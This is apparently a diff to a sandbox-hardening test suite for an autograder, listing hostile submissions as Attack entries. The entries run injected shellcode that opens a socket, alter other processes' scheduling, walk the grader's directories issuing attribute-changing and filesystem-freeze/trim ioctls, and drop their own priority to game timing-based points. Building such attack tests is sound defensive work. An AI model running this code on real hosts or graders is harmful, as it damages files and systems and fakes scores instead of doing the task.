@@ -125,7 +125,7 @@ print([libc.syscall(number, 2, 1, 0) for number in (41, 0x40000000 | 41, 425)])
 size = ctypes.create_string_buffer(256)
 print(libc.syscall(425, 8, size), libc.syscall(435, size, 88))
 code = bytes.fromhex("b867010000bb02000000b90100000031d2cd80c3")  # mov eax,359 (socket); int 0x80
-page = mmap.mmap(-1, 4096, prot=7)
+page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=7)
 page.write(code)
 try: print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
 except BaseException as error: print(type(error).__name__)
@@ -249,5 +249,24 @@ for pid in WORLD["pids"]:
     for act in (lambda: os.sched_setaffinity(pid, {0}), lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: libc.syscall(314, pid, struct.pack("IIQiIQQQ", 48, 5, 0, 19, 0, 0, 0, 0), 0)):
         try: act()
         except OSError as error: print(type(error).__name__)
+'''),
+    Attack("attributes-by-ioctl", "host", "changes attributes of all files that it can open, by ioctl, and freezes and trims their file system", "a file of the grader's has other attributes", '''
+import fcntl, struct, adkit
+numbers = [0x40086602, 0x40046602, 0x401c5820, 0x41009432, 0xc0045877, 0xc0185879, 0x800c6613, 0x40806685, 0x40049409, 0x4020940d, 0xc0189436, 0x5412, 0x8901]
+for top in (os.path.dirname(adkit.__file__), WORLD["course"], os.getcwd()):
+    for folder, _, names in os.walk(top):
+        for name in [".", *names]:
+            try: fd = os.open(os.path.join(folder, name), os.O_RDONLY)
+            except OSError: continue
+            for number in numbers:
+                for padded in (number, number | 1 << 32):
+                    try: fcntl.ioctl(fd, padded & 0xffffffff, struct.pack("l", 0x40) + bytes(120))
+                    except (OSError, OverflowError): pass
+            os.close(fd)
+'''),
+    Attack("steps-back", "host", "lets others go first, so that it waits for the processor without its time passing", "points, which only who can change its priority earns", '''
+import ctypes
+def twice(x): os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)); return 2 * x
+def at_one(f, x): os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)); os.nice(5); return f(x)
 '''),
 )  # fmt: skip
